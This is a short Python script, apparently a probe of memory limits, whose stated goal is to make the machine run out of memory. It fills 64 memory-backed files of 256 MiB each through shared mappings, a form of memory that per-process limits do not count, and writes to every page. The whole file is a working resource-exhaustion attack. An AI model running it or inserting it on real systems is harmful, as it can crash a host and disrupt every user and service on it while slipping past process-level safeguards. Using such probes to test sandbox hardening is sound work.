"""Takes memory that no limit on a process counts: files in memory and shared mappings.

If it wins: the machine runs out of memory.
"""

import mmap
import os

kept = []
for n in range(64):
    fd = os.memfd_create(f"m{n}")
    os.ftruncate(fd, 1 << 28)
    view = mmap.mmap(fd, 1 << 28)
    for place in range(0, 1 << 28, 4096):
        view[place] = 1
    kept.append(view)
